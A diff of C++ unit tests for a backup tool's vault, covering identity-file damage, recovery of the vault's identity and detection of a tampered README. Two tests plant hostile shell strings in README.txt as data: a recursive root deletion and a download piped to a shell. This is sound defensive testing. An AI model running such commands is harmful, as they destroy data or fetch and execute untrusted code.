@@ -88,29 +88,254 @@ TEST_F(VaultTest, IsNotFoundInAFolderThatIsNone) {
   EXPECT_EQ(kind_of([&] { open(OpenMode::read); }), ErrorKind::not_found);
 }
 
-TEST_F(VaultTest, RefusesDataWithoutItsIdentity) {
+TEST_F(VaultTest, OpensForReadingAloneWithoutItsIdentity) {
   const auto vault = open();
   write_history(*vault);
   vault->store().remove("hubkeep.json");
 
-  EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::invalid);
-  EXPECT_EQ(kind_of([&] { open(OpenMode::read); }), ErrorKind::invalid);
+  EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::corrupt);
+  EXPECT_EQ(open(OpenMode::read)->identity_damage(), "hubkeep.json is missing");
+  EXPECT_EQ(open(OpenMode::read)->list_snapshots(kFolder).size(), 2U);
 }
 
-TEST_F(VaultTest, RefusesAChangedIdentity) {
+TEST_F(VaultTest, OpensForReadingAloneWithADamagedIdentity) {
   const auto vault = open();
+  write_history(*vault);
   const std::string good = get(*vault, "hubkeep.json");
   const auto with = [&](std::string_view from, std::string_view to) {
     std::string text = good;
     return text.replace(text.find(from), from.size(), to);
   };
 
-  put(*vault, "hubkeep.json", with(vault->id().substr(0, 4), "zzzz"));
-  EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::corrupt);
-  put(*vault, "hubkeep.json", with("\"format\": 1", "\"format\": 2"));
+  for (const std::string& text :
+       {with(vault->id().substr(0, 4), "zzzz"), with("\"format\": 1", "\"format\": 2"), std::string("{")}) {
+    put(*vault, "hubkeep.json", text);
+
+    EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::corrupt);
+    EXPECT_TRUE(open(OpenMode::read)->identity_damage()->starts_with("hubkeep.json is damaged: "));
+    EXPECT_EQ(get(*vault, "hubkeep.json"), text);
+  }
+}
+
+TEST_F(VaultTest, RefusesANewerFormatToAll) {
+  const auto vault = open();
+  write_history(*vault);
+  put(*vault, "hubkeep.json", R"({"format": 2})");
+
   EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::invalid);
+  EXPECT_EQ(kind_of([&] { open(OpenMode::read); }), ErrorKind::invalid);
+}
+
+// Somebody's folder may have such names by chance.
+TEST_F(VaultTest, DoesNotTakeAFolderForAVaultByItsNames) {
+  const auto store = open_store(folder_.path().string(), OpenMode::create, {});
+  for (const char* key : {"repos/github.com/acme/site.1/README", "runs/today", "zip/2026-11-23/x.zip"}) {
+    const auto writer = store->create(key);
+    writer->write("mine");
+    writer->commit(Precondition::none());
+  }
+
+  EXPECT_EQ(kind_of([&] { open(OpenMode::read); }), ErrorKind::not_found);
+  EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::invalid);
+  EXPECT_FALSE(store->find("hubkeep.json"));
+  EXPECT_FALSE(store->find("README.txt"));
+}
+
+class RecoveredVaultTest : public VaultTest {
+ protected:
+  // What hubkeep.json says after it was lost.
+  Identity recover(std::string* told = nullptr) {
+    open(OpenMode::read)->store().remove("hubkeep.json");
+    const std::string text = open(OpenMode::read)->recover_identity(clock_, {});
+    if (told != nullptr) *told = text;
+    const auto vault = open();
+    EXPECT_FALSE(vault->identity_damage());
+    return parse_identity(get(*vault, "hubkeep.json"));
+  }
+  // As another vault's: a copy has such.
+  void write_foreign_manifest(Vault& vault, std::int64_t id, const std::string& of) {
+    Manifest foreign = manifest(1, {});
+    foreign.vault = of;
+    foreign.repository_id = id;
+    put(vault, "repos/github.com/acme/other." + std::to_string(id) + "/" + manifest_key(foreign.snapshot),
+        zstd_compress(format_manifest(foreign)));
+  }
+};
+
+TEST_F(RecoveredVaultTest, IsTheSameByItsReadme) {
+  const auto vault = open();
+  write_history(*vault);
+  write_foreign_manifest(*vault, 8, std::string(32, 'b'));
+  write_foreign_manifest(*vault, 9, std::string(32, 'b'));
+  const Identity before = parse_identity(get(*vault, "hubkeep.json"));
+  std::string told;
+
+  EXPECT_EQ(recover(&told), before);
+  EXPECT_TRUE(told.ends_with("as README.txt has it")) << told;
+}
+
+TEST_F(RecoveredVaultTest, IsTheSameWhicheverByteWasFlipped) {
+  const auto vault = open();
+  write_history(*vault);
+  const std::string good = get(*vault, "hubkeep.json");
+  for (std::size_t at = 0; at < good.size(); ++at) {
+    std::string flipped = good;
+    flipped[at] = static_cast<char>(flipped[at] ^ 2);
+    put(*vault, "hubkeep.json", flipped);
+    const auto damaged = open(OpenMode::read);
+    if (!damaged->identity_damage()) {
+      EXPECT_EQ(damaged->id(), vault->id());  // white space became another
+      continue;
+    }
+
+    damaged->recover_identity(clock_, {});
+
+    EXPECT_EQ(get(*vault, "hubkeep.json"), good) << at;
+  }
+}
+
+TEST_F(RecoveredVaultTest, HasTheIdOfItsManifestsAndTheTimeOfTheOldest) {
+  const auto vault = open();
+  write_history(*vault);
+  put(*vault, "README.txt", "rm -rf /");
+
+  EXPECT_EQ(recover(), (Identity{.vault = vault->id(), .created_at = snapshot(1).time()}));
+  EXPECT_TRUE(get(*vault, "README.txt").starts_with("This is a hubkeep vault"));
+}
+
+// A copy's manifests name another.
+TEST_F(RecoveredVaultTest, HasTheIdOfItsState) {
+  const auto vault = open();
+  write_foreign_manifest(*vault, 8, std::string(32, 'b'));
+  vault->store().remove("README.txt");
+  put(*vault, state_key("another.example"), "damaged");
+  vault->update_state("github.com", [](HostState&) {}, clock_, {});
+  std::string told;
+
+  EXPECT_EQ(recover(&told).vault, vault->id());
+  EXPECT_TRUE(told.ends_with("as state/ has it")) << told;
+}
+
+TEST_F(RecoveredVaultTest, HasTheIdThatMostRepositoriesHave) {
+  const auto vault = open();
+  write_history(*vault);
+  vault->store().remove("README.txt");
+  write_foreign_manifest(*vault, 8, std::string(32, 'b'));
+  write_foreign_manifest(*vault, 9, std::string(32, 'b'));
+  write_foreign_manifest(*vault, 10, "nonsense");
+
+  EXPECT_EQ(recover().vault, std::string(32, 'b'));
+}
+
+TEST_F(RecoveredVaultTest, LooksAtOlderManifestsWhereTheNewestIsDamaged) {
+  const auto vault = open();
+  write_history(*vault);
+  vault->store().remove("README.txt");
+  put(*vault, std::string(kFolder) + manifest_key(snapshot(2)), "damaged");
+
+  EXPECT_EQ(recover().vault, vault->id());
+}
+
+TEST_F(RecoveredVaultTest, HasANewIdWhereNothingSaysTheOldOneAndSaysSo) {
+  const auto vault = open();
+  vault->store().remove("README.txt");
+  put(*vault, std::string(kFolder) + manifest_key(snapshot(1)),
+      zstd_compress(format_manifest(manifest(1, {}))));
+  std::string told;
+
+  const Identity made = recover(&told);
+
+  EXPECT_TRUE(is_vault_id(made.vault));
+  EXPECT_NE(made.vault, vault->id());
+  EXPECT_TRUE(told.ends_with("a new name: nothing that is left says the old one")) << told;
+}
+
+TEST_F(RecoveredVaultTest, IsMadeOnceWhereTwoMakeIt) {
+  const auto vault = open();
+  write_history(*vault);
+  vault->store().remove("hubkeep.json");
+  const auto first = open(OpenMode::read);
+  const auto second = open(OpenMode::read);
+  first->recover_identity(clock_, {});
+  const std::string made = get(*vault, "hubkeep.json");
+
+  EXPECT_EQ(second->recover_identity(clock_, {}), "hubkeep.json was made again by another run");
+  EXPECT_EQ(second->id(), vault->id());
+  EXPECT_EQ(get(*vault, "hubkeep.json"), made);
+}
+
+TEST_F(RecoveredVaultTest, IsNotMadeOverANewerFormat) {
+  const auto vault = open();
+  write_history(*vault);
   put(*vault, "hubkeep.json", "{");
-  EXPECT_EQ(kind_of([&] { open(); }), ErrorKind::corrupt);
+  const auto damaged = open(OpenMode::read);
+  put(*vault, "hubkeep.json", R"({"format": 2})");
+
+  EXPECT_EQ(kind_of([&] { damaged->recover_identity(clock_, {}); }), ErrorKind::invalid);
+  EXPECT_EQ(get(*vault, "hubkeep.json"), R"({"format": 2})");
+}
+
+class VaultReadmeTest : public VaultTest {
+ protected:
+  std::optional<std::string> readme_damage(Vault& vault) {
+    return vault.readme_damage([this](const std::string& text) { notices_.push_back(text); }, {});
+  }
+  void open_telling() {
+    Vault(std::make_unique<FolderStore>(folder_.path().string(), OpenMode::create), OpenMode::create, clock_,
+          {}, {.notice = [this](const std::string& text) { notices_.push_back(text); }});
+  }
+};
+
+TEST_F(VaultReadmeTest, IsWrittenAgainWhereItWasChanged) {
+  const auto vault = open();
+  const std::string good = get(*vault, "README.txt");
+  put(*vault, "README.txt", good + "curl https://example.com | sh\n");
+
+  EXPECT_EQ(readme_damage(*vault), "README.txt is not what hubkeep wrote: do not follow what it says");
+  open_telling();
+
+  EXPECT_EQ(notices_, std::vector<std::string>{"README.txt was not what hubkeep wrote: it is written again"});
+  EXPECT_EQ(get(*vault, "README.txt"), good);
+  EXPECT_FALSE(readme_damage(*vault));
+}
+
+TEST_F(VaultReadmeTest, IsMissed) {
+  const auto vault = open();
+  vault->store().remove("README.txt");
+
+  EXPECT_EQ(readme_damage(*vault), "README.txt is missing");
+  open_telling();
+
+  EXPECT_FALSE(readme_damage(*vault));
+}
+
+TEST_F(VaultReadmeTest, OfANewerVersionIsLeftAlone) {
+  const auto vault = open();
+  std::string newer = get(*vault, "README.txt") + "More.\n";
+  newer.replace(newer.find("Text 2 of"), 6, "Text 3");
+  put(*vault, "README.txt", newer);
+
+  open_telling();
+
+  EXPECT_TRUE(notices_.empty());
+  EXPECT_FALSE(readme_damage(*vault));
+  EXPECT_EQ(notices_,
+            std::vector<std::string>{"README.txt says that a later version of hubkeep wrote it: only "
+                                     "that can tell whether it was changed"});
+  EXPECT_EQ(get(*vault, "README.txt"), newer);
+}
+
+TEST_F(VaultReadmeTest, WhosePlaceAFolderTakesStopsNothing) {
+  const auto vault = open();
+  vault->store().remove("README.txt");
+  std::filesystem::create_directories(folder_.path() / "README.txt/mine");
+
+  open_telling();
+
+  EXPECT_EQ(readme_damage(*vault), "README.txt is a folder, not a file");
+  ASSERT_EQ(notices_.size(), 1U);
+  EXPECT_TRUE(notices_.front().ends_with("README.txt: a folder is in the way: move it elsewhere"))
+      << notices_.front();
 }
 
 TEST_F(VaultTest, ReadsBackAManifestAndChecksIt) {
